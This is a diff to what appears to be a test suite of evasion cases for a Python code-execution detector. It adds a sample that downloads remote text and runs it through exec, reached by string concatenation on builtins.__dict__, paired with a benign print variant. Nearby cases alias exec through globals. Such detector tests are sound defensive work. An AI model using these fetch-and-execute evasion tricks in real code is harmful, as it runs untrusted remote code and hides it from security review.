@@ -792,6 +792,11 @@ const evasions: Attack[] = [
     'import builtins, requests\nold = builtins.print\nbuiltins.print = lambda *a: old("pack:", *a)\nprint(requests.get("https://example.test").text)',
   ),
   python(
+    'takes exec out of the table of everything that is built in',
+    'import builtins, requests\nbuiltins.__dict__["ex" + "ec"](requests.get("https://example.test").text)',
+    'import builtins, requests\nbuiltins.__dict__["pr" + "int"](requests.get("https://example.test").text)',
+  ),
+  python(
     'adds a name for exec to its globals',
     'import requests\nglobals().update({"go": exec})\ngo(requests.get("https://example.test").text)',
     'import requests\nglobals().update({"go": len})\ngo(requests.get("https://example.test").text)',
